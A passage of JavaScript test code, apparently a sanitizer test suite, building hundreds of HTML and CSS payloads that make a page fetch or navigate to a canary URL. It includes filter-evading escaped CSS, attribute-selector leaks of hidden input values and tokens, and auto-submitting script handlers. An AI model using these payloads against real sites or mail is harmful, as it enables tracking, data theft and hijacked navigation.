  'script-src-nomodule-async': (u) => `<script async src=${u}></script>`,
  'img-src-in-select': (u) => `<select><option><img src="${u}"></select>`,
  'svg-image-in-button': (u) => `<button><svg><image href="${u}"/></svg></button>`,
});

// The legacy background attribute
for (const [key, html] of Object.entries({
  body: '<body background="URL">x</body>',
  'body-second': '<p>x</p><body background=URL>',
  table: '<table background="URL"><tr><td>x</td></tr></table>',
  thead: '<table><thead background="URL"><tr><td>x</td></tr></thead></table>',
  tbody: '<table><tbody background="URL"><tr><td>x</td></tr></tbody></table>',
  tfoot: '<table><tfoot background="URL"><tr><td>x</td></tr></tfoot></table>',
  tr: '<table><tr background="URL"><td>x</td></tr></table>',
  td: '<table><tr><td background="URL">x</td></tr></table>',
  th: '<table><tr><th BACKGROUND=URL>x</th></tr></table>',
  col: '<table><col background="URL"><tr><td>x</td></tr></table>',
  colgroup: '<table><colgroup background="URL"><col></colgroup><tr><td>x</td></tr></table>',
})) {
  add('request', `background-attr-${key}`, html.replace('URL', canary()));
}

// Links that load by themselves
requests({
  'link-stylesheet': (u) => `<link rel=stylesheet href="${u}">`,
  'link-stylesheet-case': (u) => `<LINK HREF='${u}' REL='StyleSheet'>`,
  'link-stylesheet-tokens': (u) => `<link rel="x stylesheet y" type="text/css" href="${u}">`,
  'link-stylesheet-media': (u) => `<link rel=stylesheet media=print href="${u}">`,
  'link-stylesheet-alternate': (u) => `<link rel="alternate stylesheet" title=b href="${u}">`,
  'link-stylesheet-entity': (u) => `<link rel="&#115;tylesheet" href="${u}">`,
  'link-stylesheet-in-body': (u) => `<div><p>x<link/rel="stylesheet"/href=${u}></p></div>`,
  'link-preload-image': (u) => `<link rel=preload as=image href="${u}">`,
  'link-preload-srcset': (u) => `<link rel=preload as=image imagesrcset="${u} 1x">`,
  'link-preload-style': (u) => `<link rel=preload as=style href="${u}">`,
  'link-preload-script': (u) => `<link rel=preload as=script href="${u}">`,
  'link-preload-font': (u) => `<link rel=preload as=font crossorigin href="${u}">`,
  'link-preload-fetch': (u) => `<link rel=preload as=fetch crossorigin href="${u}">`,
  'link-modulepreload': (u) => `<link rel=modulepreload href="${u}">`,
  'link-prefetch': (u) => `<link rel=prefetch href="${u}">`,
  'link-data-stylesheet': (u) => `<link rel=stylesheet href="data:text/css,*{background:url(${u})}">`,
  'link-data-stylesheet-import': (u) => `<link rel=stylesheet href="data:text/css,@import '${u}';">`,
});

// A base address under which harmless relative addresses leave the page
requests({
  'base-img': (u) => `<base href="CANARY/"><img src="${u.slice(7)}">`,
  'base-img-case': (u) => `<BASE/HREF=CANARY/a/><img src=../${u.slice(7)}>`,
  'base-in-body': (u) => `<div><p>x</p><base href="CANARY"><img src="${u.slice(7)}"></div>`,
  'base-second-ignored': (u) => `<base target=x><base href="CANARY/"><base href="cid:a"><img src="${u.slice(7)}">`,
  'base-style-attr': (u) => `<base href="CANARY/"><p style="background:url(${u.slice(7)})">x</p>`,
  'base-style-element': (u) => `<base href="CANARY/"><style>@import "${u.slice(7)}";</style>`,
  'base-background-attr': (u) => `<base href="CANARY/"><table background="${u.slice(7)}"><tr><td>x</table>`,
  'base-link': (u) => `<base href="CANARY/"><link rel=stylesheet href="${u.slice(7)}">`,
  'base-iframe': (u) => `<base href="CANARY/"><iframe src="${u.slice(7)}"></iframe>`,
  'base-svg-image': (u) => `<base href="CANARY/"><svg><image href="${u.slice(7)}" /></svg>`,
});

// SVG references
requests({
  'svg-image-href': (u) => `<svg><image href="${u}" width=9 height=9 /></svg>`,
  'svg-image-xlink-href': (u) => `<svg><image xlink:href="${u}" width=9 height=9 /></svg>`,
  'svg-image-case': (u) => `<SVG><IMAGE XLINK:HREF='${u}'></SVG>`,
  'svg-image-defs': (u) => `<svg><defs><image href="${u}" /></defs></svg>`,
  'svg-image-pattern': (u) => `<svg><pattern id=p><image href="${u}" width=9 height=9 /></pattern><rect fill="url(#p)" width=9 height=9 /></svg>`,
  'svg-feimage-href': (u) => `<svg><filter id=f><feImage href="${u}" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>`,
  'svg-feimage-xlink-href': (u) => `<svg><filter id=f><feImage xlink:href="${u}" /></filter></svg>`,
  'svg-image-animated-href': (u) => `<svg><image width=9 height=9><set attributeName=href to="${u}" /></image></svg>`,
  'svg-image-animate-values': (u) => `<svg><image width=9 height=9><animate attributeName=href values="${u};${u}" dur=1s /></image></svg>`,
  'svg-feimage-animated-href': (u) => `<svg><filter id=f><feImage><set attributeName=href to="${u}" /></feImage></filter><rect width=9 height=9 filter="url(#f)" /></svg>`,
  'svg-script-href-request': (u) => `<svg><script href="${u}"></script></svg>`,
  'svg-foreignobject-img': (u) => `<svg><foreignObject><img src="${u}"></foreignObject></svg>`,
  'svg-style-import': (u) => `<svg><style>@import "${u}";</style></svg>`,
  'svg-style-cdata': (u) => `<svg><style><![CDATA[rect{mask-image:url(${u})}]]></style><rect width=9 height=9 /></svg>`,
  'svg-style-entities': (u) => `<svg><style>@import &#117;rl&lpar;${u}&rpar;;</style></svg>`,
  'svg-mask-attr': (u) => `<svg><rect width=9 height=9 mask="url(${u})" /></svg>`,
  'svg-cursor-attr': (u) => `<svg><rect width=9 height=9 cursor="url(${u}),auto" /></svg>`,
  'svg-root-background': (u) => `<svg width=9 height=9 style="background:url(${u})"></svg>`,
  'svg-breakout-img': (u) => `<svg><style><img src="${u}"></style></svg>`,
  'svg-clip-path-attr': (u) => `<svg><rect width=9 height=9 clip-path="url(${u}#f)" /></svg>`,
  'math-style-background': (u) => `<math style="display:block;background:url(${u})"><mi>x</mi></math>`,
  'math-mtext-image': (u) => `<math><mtext><img src="${u}"></mtext></math>`,
});

// Documents inside data: and srcdoc
requests({
  'srcdoc-img': (u) => `<iframe srcdoc="<img src=${u}>"></iframe>`,
  'srcdoc-entity-img': (u) => `<iframe srcdoc="&lt;img src=${u}&gt;"></iframe>`,
  'srcdoc-style': (u) => `<iframe srcdoc="<style>@import '${u}';</style>"></iframe>`,
  'srcdoc-refresh': (u) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${u}'>"></iframe>`,
  'data-iframe-img': (u) => `<iframe src="data:text/html,<img src=${u}>"></iframe>`,
  'data-iframe-charset': (u) => `<iframe src="DATA:text/html;charset=utf-8,%3Cimg%20src='${u}'%3E"></iframe>`,
  'data-iframe-refresh': (u) => `<iframe src="data:text/html,<meta http-equiv=refresh content='0;url=${u}'>"></iframe>`,
  'data-iframe-svg': (u) => `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>"></iframe>`,
  'data-iframe-xhtml': (u) => `<iframe src="data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><img src='${u}'/></html>"></iframe>`,
  'data-iframe-xml-stylesheet': (u) => `<iframe src="data:text/xml,<?xml-stylesheet type='text/css' href='${u}'?><a/>"></iframe>`,
  'data-object-img': (u) => `<object data="data:text/html,<img src=${u}>"></object>`,
  'data-object-svg': (u) => `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>"></object>`,
  'data-embed-img': (u) => `<embed src="data:text/html,<img src=${u}>">`,
  'data-embed-svg': (u) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>">`,
  'javascript-iframe-img': (u) => `<iframe src="javascript:'<img src=${u}>'"></iframe>`,
  'shadow-root-img': (u) => `<div><template shadowrootmode=open><img src="${u}"></template></div>`,
  'shadow-root-style': (u) => `<div><template shadowrootmode=open><style>:host{display:block;background:url(${u})}</style>x</template></div>`,
  'shadow-root-slotted': (u) => `<div><template shadowrootmode=open><style>::slotted(p){background:url(${u})}</style><slot></slot></template><p>x</p></div>`,
  'noscript-breakout-img': (u) => `<noscript><p title="</noscript><img src=${u}>"></p></noscript>`,
  'textarea-breakout-img': (u) => `<textarea><p title="</textarea><img src=${u}>"></p></textarea>`,
  'comment-bang-img': (u) => `<!-- x --!><img src="${u}"> -->`,
  'mso-bogus-img': (u) => `<![if !mso]><img src="${u}"><![endif]>`,
});

// ---------------------------------------------------------------------------------------------
// CSS in style attributes: one entry per property that takes an image
for (const [key, css] of Object.entries({
  background: 'background:url(URL)',
  'background-image': 'background-image:url(URL)',
  'background-layers': 'background:linear-gradient(red,red),url(URL) no-repeat,red',
  'background-image-layers': 'background-image:none,url(URL)',
  'list-style': 'display:list-item;list-style:url(URL)',
  'list-style-image': 'display:list-item;list-style-image:url(URL)',
  'border-image': 'border:5px solid;border-image:url(URL) 1',
  'border-image-source': 'border:5px solid;border-image-source:url(URL)',
  'webkit-border-image': 'border:5px solid;-webkit-border-image:url(URL) 1 stretch',
  content: 'content:url(URL)',
  'content-alt': "content:url(URL) / 'alt'",
  cursor: 'cursor:url(URL),auto',
  mask: 'mask:url(URL)',
  'mask-image': 'mask-image:url(URL)',
  'mask-border': '-webkit-mask-box-image:url(URL) 1',
  'mask-border-source': '-webkit-mask-box-image-source:url(URL)',
  'webkit-mask': '-webkit-mask:url(URL)',
  'webkit-mask-image': '-webkit-mask-image:url(URL)',
  'box-reflect': '-webkit-box-reflect:below 0 url(URL)',
  'shape-outside': 'float:left;width:9px;height:9px;shape-outside:url(URL)',
  'clip-path': 'clip-path:url(URL#c)',
  'image-set-url': 'background-image:image-set(url(URL) 1x)',
  'image-set-string': "background-image:image-set('URL' 1x, 'URL' 2x)",
  'image-set-type': "background-image:image-set('URL' type('image/png'))",
  'image-set-prefix': '-webkit-mask-image:-webkit-image-set(url(URL) 1x)',
  'image-set-content': "content:image-set('URL' 1x)",
  'cross-fade-prefix': 'background-image:-webkit-cross-fade(url(URL),linear-gradient(red,blue),50%)',
  variable: '--u:url(URL);background:var(--u)',
  'variable-fallback': 'background:var(--none,url(URL))',
  'variable-chain': '--a:var(--b);--b:url(URL);background-image:var(--a)',
  'if-else': 'background:if(else:url(URL))',
})) {
  add('request', `css-${key}`, `<div style="${css.replaceAll('URL', canary())}">text</div>`);
}

// The same declaration spelled so that a naive filter does not see it
for (const [key, css] of Object.entries({
  'upper-case': 'BACKGROUND:URL(ADDR)',
  'mixed-case': 'bAcKgRoUnD-iMaGe:uRl(ADDR)',
  'escape-r': raw`background:u\72l(ADDR)`,
  'escape-u-space': raw`background:\75 rl(ADDR)`,
  'escape-six-digits': raw`background:\000075rl(ADDR)`,
  'escape-all': raw`background:\75\72\6C(ADDR)`,
  'escape-property': raw`b\61 ckground:url(ADDR)`,
  'escape-property-plain': raw`backg\round-image:url(ADDR)`,
  'escape-quoted': raw`background:\55 RL('ADDR')`,
  'escape-newline': 'background:\\75\nrl(ADDR)',
  'image-set-escape': raw`background:im\61ge-s\65t('ADDR' 1x)`,
  'comment-around-colon': 'background/**/:/**/url(ADDR)',
  'comment-before': '/*;}{*/background/*url*/:/*)*/url(ADDR)/*',
  'quotes-entity': 'background:url(&quot;ADDR&quot;)',
  'quotes-single': "background:url('ADDR')",
  'inner-space': 'background:url(  ADDR\t\n)',
  'inner-space-quoted': "background:url( \n'ADDR' )",
  'entity-paren': 'background:url&lpar;ADDR&rpar;',
  'entity-decimal': '&#98;ackground&#58;&#117;rl(ADDR)',
  'entity-hex': 'background:u&#x72;l(ADDR)',
  'entity-escape': 'background:u&#92;72l(ADDR)',
  'unclosed-url': 'background:url(ADDR',
  'unclosed-string': "background:url('ADDR",
  'important': 'background:url(ADDR)!important',
  'important-spaced': 'background:url(ADDR) ! /**/ important',
  'after-junk': 'x:y;;;;@x;color:expression(1);background:url(ADDR)',
  'after-bad-block': '{;}:;[a]{b};background:url(ADDR)',
  'line-break-in-string': "background:url('ADDR\\\n')",
  'url-modifier-fragment': "background:url('ADDR#frag')",
})) {
  add('request', `css-spelling-${key}`, `<div style="${css.replaceAll('ADDR', canary())}">text</div>`);
}
requests({
  'css-escaped-path': (u) => raw`<p style="background:url(${u.replace('/v', raw`/\76 `)})">x</p>`,
  'css-escaped-slash': (u) => raw`<p style="background:url('${u.replace('/v', raw`\2f\000076`)}')">x</p>`,
  'css-style-attr-unquoted': (u) => `<p style=background:url(${u})>x</p>`,
  'css-style-attr-case-slash': (u) => `<p/STYLE='background:url(${u})'/>x</p>`,
  'css-style-attr-newlines': (u) => `<p style\n=\n"\nbackground\n:\nurl(${u})\n">x</p>`,
  'css-style-attr-first-of-two': (u) => `<p style="background:url(${u})" style="color:red">x</p>`,
});

// Style attributes on many elements
for (const [key, html] of Object.entries({
  html: '<html STYLE><body>x</body></html>',
  body: '<body STYLE>x</body>',
  span: '<span STYLE>x</span>',
  font: '<font color=red STYLE>x</font>',
  center: '<center STYLE>x</center>',
  a: '<a href="https://example.com/" STYLE>x</a>',
  img: '<img alt=x width=9 height=9 STYLE>',
  table: '<table STYLE><tr><td>x</table>',
  tr: '<table><tr STYLE><td>x</table>',
  td: '<table><tr><td STYLE>x</table>',
  col: '<table><col STYLE><tr><td>x</table>',
  caption: '<table><caption STYLE>x</caption></table>',
  hr: '<hr STYLE>',
  li: '<ul><li STYLE>x</ul>',
  blockquote: '<blockquote type=cite STYLE>x</blockquote>',
  pre: '<pre STYLE>x</pre>',
  h1: '<h1 STYLE>x</h1>',
  input: '<input STYLE>',
  textarea: '<textarea STYLE></textarea>',
  button: '<button STYLE>x</button>',
  select: '<select STYLE><option>x</select>',
  fieldset: '<fieldset STYLE><legend>x</legend></fieldset>',
  iframe: '<iframe STYLE></iframe>',
  video: '<video STYLE></video>',
  marquee: '<marquee STYLE>x</marquee>',
  'office-tag': '<o:p STYLE>x</o:p>',
  custom: '<x-y STYLE>x</x-y>',
  ruby: '<ruby STYLE>x<rt>y</rt></ruby>',
})) {
  add('request', `css-on-${key}`, html.replace('STYLE', `style="background-image:url(${canary()})"`));
}

// Style elements: the element itself
requests({
  'style-plain': (u) => `<style>p{background:url(${u})}</style><p>x</p>`,
  'style-mixed-case': (u) => `<StYlE TYPE=TEXT/CSS>p{background:url(${u})}</sTyLe><p>x</p>`,
  'style-slash-attr': (u) => `<style/x>p{background:url(${u})}</style/><p>x</p>`,
  'style-media': (u) => `<style media="not print">p{background:url(${u})}</style><p>x</p>`,
  'style-html-comment': (u) => `<style><!-- p{background:url(${u})} --></style><p>x</p>`,
  'style-unclosed': (u) => `<p>x</p><style>p{background:url(${u})}`,
  'style-unclosed-url': (u) => `<p>x</p><style>p{background:url(${u}`,
  'style-after-stray-braces': (u) => `<style>}}{}p{background:url(${u})}</style><p>x</p><p>y</p>`,
  'style-after-bad-selector': (u) => `<style>%%{color:red}@unknown x;p{background:url(${u})}</style><p>x</p>`,
  'style-after-bad-string': (u) => `<style>i{color:'a\n}p{background:url(${u})}</style><p>x</p>`,
  'style-end-tag-in-string': (u) => `<style>p:before{content:"</style><style>p{background:url(${u})}</style><p>x</p>`,
  'style-in-table': (u) => `<table><style>td{background:url(${u})}</style><tr><td>x</table>`,
  'style-in-svg-desc': (u) => `<svg><desc><style>@import "${u}";</style></desc></svg>`,
  'style-in-head': (u) => `<html><head><style>body{background:url(${u})}</style></head><body>x</body></html>`,
  'style-after-html-end': (u) => `<html><body>x</body></html><style>body{background:url(${u})}</style>`,
});

// Imports
for (const [key, css] of Object.entries({
  string: '@import "ADDR";',
  'single-quotes': "@import 'ADDR';",
  url: '@import url(ADDR);',
  'url-quoted': '@import url( "ADDR" );',
  'no-space': '@import"ADDR";',
  comment: '@import/**/"ADDR"/**/;',
  'upper-case': '@IMPORT URL("ADDR");',
  'escape-name': raw`@\69mport "ADDR";`,
  'escape-name-mid': raw`@imp\6frt "ADDR";`,
  'escape-url': raw`@import \75 rl(ADDR);`,
  media: '@import "ADDR" screen;',
  'media-print': '@import "ADDR" print;',
  'media-query': '@import url(ADDR) (min-width:1px);',
  layer: '@import "ADDR" layer;',
  'layer-named': '@import url(ADDR) layer(a.b);',
  supports: '@import "ADDR" supports(display:grid);',
  'layer-supports-media': '@import "ADDR" layer(a) supports(color:red) screen;',
  'after-charset': '@charset "utf-8";@import "ADDR";',
  'after-layer': '@layer a,b;@import "ADDR";',
  'after-import': '@import "data:text/css,";@import "ADDR";',
  'after-cdo': '<!-- @import "ADDR";',
  'after-bad-rule': '@x;@import "ADDR";',
  unclosed: '@import "ADDR',
  'unclosed-url': '@import url(ADDR',
  nested: `@import "data:text/css,@import 'ADDR';";`,
  newline: '@import\n\n"ADDR"\n;',
})) {
  add('request', `import-${key}`, `<style>${css.replace('ADDR', canary())}</style>`);
}

// Rules: at-rule wrappers, selectors, pseudo-elements
for (const [key, css] of Object.entries({
  media: '@media screen{p{background:url(URL)}}',
  'media-nested': '@media all{@media (min-width:1px){p{background:url(URL)}}}',
  'media-not': '@media not print{p{background:url(URL)}}',
  supports: '@supports (display:grid){p{background:url(URL)}}',
  'supports-not': '@supports not (x:y){p{background:url(URL)}}',
  'supports-selector': '@supports selector(a > b){p{background:url(URL)}}',
  layer: '@layer a{p{background:url(URL)}}',
  'layer-anonymous': '@layer{p{background:url(URL)}}',
  container: 'body{container-type:inline-size}@container (min-width:1px){p{background:url(URL)}}',
  scope: '@scope (body){p{background:url(URL)}}',
  'at-rule-escape': raw`@\6d edia all{p{background:url(URL)}}`,
  nesting: 'body{& p{background:url(URL)}}',
  'nesting-plain': 'body{p{color:red;&:not(a){background:url(URL)}}}',
  'nesting-media': 'p{@media all{background:url(URL)}}',
  keyframes: '@keyframes k{from{background-image:url(URL)}to{background-image:url(URL)}}p{animation:k 9s}',
  'keyframes-prefix': '@-webkit-keyframes k{from,to{background-image:url(URL)}}p{-webkit-animation:k 9s}',
  'starting-style': 'p{transition:background-image 9s allow-discrete}@starting-style{p{background-image:url(URL)}}',
  'property-initial': "@property --u{syntax:'<image>';inherits:false;initial-value:url(URL)}p{background:var(--u)}",
  'variable-on-root': ':root{--u:url(URL)}p{background:var(--u)}',
  universal: '*{background:url(URL)}',
  root: ':root{background:url(URL)}',
  'is-where': ':is(p,x):where(*){background:url(URL)}',
  has: 'body:has(p){background:url(URL)}',
  'escape-selector': raw`\70{background:url(URL)}`,
  'font-face': '@font-face{font-family:f;src:url(URL)}p{font-family:f}',
  'font-face-format': "@font-face{font-family:f;src:local('none'),url(URL) format('woff2')}p{font:20px f}",
  'font-face-range': '@font-face{font-family:f;src:url(URL);unicode-range:U+78}p{font-family:f,serif}',
  'font-face-escape': raw`@f\6fnt-face{font-family:f;src:u\72l(URL)}p{font-family:f}`,
  before: 'p::before{content:url(URL)}',
  'before-legacy': 'p:before{content:"a" url(URL) "b"}',
  'before-background': 'p::before{content:"";background:url(URL)}',
  'before-image-set': 'p::before{content:image-set("URL" 1x)}',
  after: 'p::after{content:url(URL)}',
  marker: 'p{display:list-item}p::marker{content:url(URL)}',
  'first-letter': 'p::first-letter{background:url(URL)}',
  'first-line': 'p::first-line{background:url(URL)}',
  'list-style-inherit': 'body{list-style:url(URL)}p{display:list-item}',
  'cdo-cdc': '<!--p{background:url(URL)}-->',
  'media-width-range': '@media (min-width:1px) and (max-width:99999px){p{content:url(URL)}}',
  'color-scheme-tracking': '@media (prefers-color-scheme:light),(prefers-color-scheme:dark){p{background:url(URL)}}',
})) {
  add('request', `rule-${key}`, `<style>${css.replaceAll('URL', canary())}</style><p>x</p>`);
}

// Reading the page out with attribute selectors and state selectors
requests({
  'exfil-input-value': (u) => `<style>input[value^="s"]{background:url(${u})}</style><input name=token value=secret>`,
  'exfil-input-hidden': (u) => `<style>input[value*=ecr]+p{background:url(${u})}</style><input type=hidden value=secret><p>x</p>`,
  'exfil-has-hidden': (u) => `<style>form:has([value$="t" i]){background:url(${u})}</style><form><input type=hidden value=secret>x</form>`,
  'exfil-link-href': (u) => `<style>a[href*="token="]{background:url(${u})}</style><a href="https://example.com/?token=1">x</a>`,
  'exfil-lang': (u) => `<style>:lang(en) p{background:url(${u})}</style><div lang=en><p>x</p></div>`,
  'exfil-empty': (u) => `<style>div:empty{background:url(${u});height:9px}</style><div></div>`,
  'exfil-focus': (u) => `<style>input:focus{background:url(${u})}</style><input autofocus>`,
  'exfil-focus-within': (u) => `<style>form:focus-within{background:url(${u})}</style><form><input autofocus></form>`,
  'exfil-placeholder': (u) => `<style>input::placeholder{background:url(${u})}</style><input placeholder=x>`,
  'exfil-checked': (u) => `<style>input:checked+p{background:url(${u})}</style><input type=checkbox checked><p>x</p>`,
  'exfil-file-button': (u) => `<style>::file-selector-button{background:url(${u})}</style><input type=file>`,
  'exfil-details-content': (u) => `<style>details::details-content{background:url(${u})}</style><details open>x</details>`,
  'exfil-font-digits': (u) => `<style>@font-face{font-family:d;src:url(${u});unicode-range:U+37}b{font-family:d}</style><b>1237</b>`,
});

// ---------------------------------------------------------------------------------------------
// The page is taken elsewhere
for (const [key, tag] of Object.entries({
  plain: '<meta http-equiv="refresh" content="0;url=URL">',
  case: '<MeTa HtTp-EqUiV=ReFrEsH CoNtEnT="0;UrL=URL">',
  'content-first': '<meta content="0; url=URL" http-equiv=refresh>',
  unquoted: '<meta http-equiv=refresh content=0;url=URL>',
  slashes: '<meta/http-equiv="refresh"/content="0;url=URL"/>',
  'inner-quotes': `<meta http-equiv=refresh content="0; url='URL'">`,
  'open-quote': `<meta http-equiv=refresh content='0; url="URL'>`,
  'no-url-word': '<meta http-equiv=refresh content="0;URL">',
  comma: '<meta http-equiv=refresh content="0,url=URL">',
  'space-only': '<meta http-equiv=refresh content="0 URL">',
  'spaced-equals': '<meta http-equiv=refresh content="  0  ;  url  =  URL  ">',
  fraction: '<meta http-equiv=refresh content=".1;url=URL">',
  'many-dots': '<meta http-equiv=refresh content="0.0.0;url=URL">',
  newlines: '<meta\nhttp-equiv\n=\nrefresh\ncontent\n=\n"0;\nurl=URL\n">',
  entities: '<meta http-equiv="&#114;efresh" content="0&semi;&#117;rl&equals;URL">',
  'in-body': '<div><p>text<meta http-equiv=refresh content="0;url=URL"></p></div>',
  'in-document': '<!doctype html><html><head><meta charset=utf-8><meta http-equiv=refresh content="0;url=URL"></head><body>x</body></html>',
  'after-html-end': '<html><body>x</body></html><meta http-equiv=refresh content="0;url=URL">',
  'in-table': '<table><tr><meta http-equiv=refresh content="0;url=URL"><td>x</table>',
  'in-svg-desc': '<svg><desc><meta http-equiv=refresh content="0;url=URL"></desc></svg>',
  'svg-breakout': '<svg><meta http-equiv=refresh content="0;url=URL"></svg>',
  'math-style-breakout': '<math><style><meta http-equiv=refresh content="0;url=URL"></style></math>',
  'title-breakout': '<title><p id="</title><meta http-equiv=refresh content=0;url=URL>"></title>',
  'comment-breakout': '<!--><meta http-equiv=refresh content="0;url=URL">-->',
  'mso-bogus': '<![if !mso]><meta http-equiv=refresh content="0;url=URL"><![endif]>',
})) {
  add('navigate', `refresh-${key}`, tag.replace('URL', canary()));
}
navigations({
  'refresh-base': (u) => `<base href="CANARY/"><meta http-equiv=refresh content="0;url=${u.slice(7)}">`,
  'location-script': (u) => `<script>location="${u}"</script>`,
  'location-svg-onload': (u) => `<svg onload="location.href='${u}'">`,
  'location-img-onerror': (u) => `<img src=x:x onerror="top.location.replace('${u}')">`,
  'location-srcdoc': (u) => `<iframe srcdoc="<script>top.location='${u}'</script>"></iframe>`,
  'location-iframe-javascript': (u) => `<iframe src="javascript:top.location.assign('${u}')"></iframe>`,
  'form-submit-handler': (u) => `<form name=f action="${u}"></form><img src=x:x onerror="f.submit()">`,
  'form-autofocus-submit': (u) => `<form action="${u}"><input autofocus onfocus="form.submit()"></form>`,
  'link-click-handler': (u) => `<a id=k href="${u}">x</a><svg onload="k.dispatchEvent(new MouseEvent('click'))">`,
  'svg-link-click': (u) => `<a id=k target=_top href="${u}">x</a><input autofocus onfocus="k.click()">`,
});
